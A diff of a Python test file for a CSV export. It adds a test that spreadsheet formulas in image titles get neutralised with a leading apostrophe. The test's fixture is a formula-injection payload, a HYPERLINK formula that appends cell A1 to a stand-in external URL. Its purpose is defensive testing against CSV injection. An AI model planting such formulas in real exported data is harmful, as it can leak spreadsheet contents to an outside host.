@@ -2,6 +2,7 @@
 
 import csv
 import sqlite3
+from dataclasses import replace
 from pathlib import Path
 
 import numpy as np
@@ -144,3 +145,12 @@ def test_spellings_of_the_positive_value_count_and_lines_without_a_path_are_name
     assert truth.labels["e.png"] is False
     assert truth.spellings == {"Oil": 2, " OIL ": 1}
     assert truth.without_path == ("line 7",)
+
+
+@pytest.mark.parametrize("raw_text", [False, True])
+def test_a_title_that_is_a_formula_is_text_in_a_spreadsheet(dataset: Dataset, tmp_path: Path, raw_text: bool) -> None:
+    formula = '=HYPERLINK("http://example.invalid/?"&A1,"open")'
+    titled = replace(dataset, images=[replace(dataset.images[0], title=formula), *dataset.images[1:]])
+    write_csv(titled, tmp_path, raw_text=raw_text)
+    with (tmp_path / "images.csv").open(newline="", encoding="utf-8") as file:
+        assert next(csv.DictReader(file))["title"] == (formula if raw_text else f"'{formula}")
